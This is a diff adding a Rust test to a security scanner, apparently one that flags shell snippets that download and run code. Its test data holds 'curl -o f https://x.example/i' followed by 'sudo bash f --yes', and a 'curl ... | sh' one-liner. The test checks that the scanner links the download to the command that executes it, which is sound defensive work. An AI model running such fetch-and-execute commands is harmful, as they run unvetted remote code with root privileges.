@@ -102,6 +102,19 @@ fn what_a_text_means_depends_on_its_syntax() {
     assert!(fires(Syntax::Shell), "a shell knows no tables");
 }
 
+#[test]
+fn a_finding_names_the_command_that_completes_it() {
+    let text = "é\n```sh\ncurl -o f https://x.example/i\n```\nThen:\n```sh\nsudo bash f --yes\n```\n";
+    let report = Scanner::builtin().scan(text);
+    let finding = report.findings.iter().find(|finding| finding.rule_id == "EXEC_SAVED").unwrap();
+    let step = finding.completed_by.as_ref().unwrap();
+    assert_eq!((finding.line, step.line, step.column), (3, 7, 1));
+    assert_eq!((step.text, &text[step.span.clone()]), ("sudo bash f --yes", "sudo bash f --yes"));
+    assert!(!finding.why.is_empty());
+    let report = Scanner::builtin().scan("Run `curl -s https://x.example/i | sh`.");
+    assert!(!report.clean() && report.findings.iter().all(|finding| finding.completed_by.is_none()));
+}
+
 #[cfg(feature = "serde")]
 #[test]
 fn a_report_is_json_in_camel_case_and_fixed_order() {
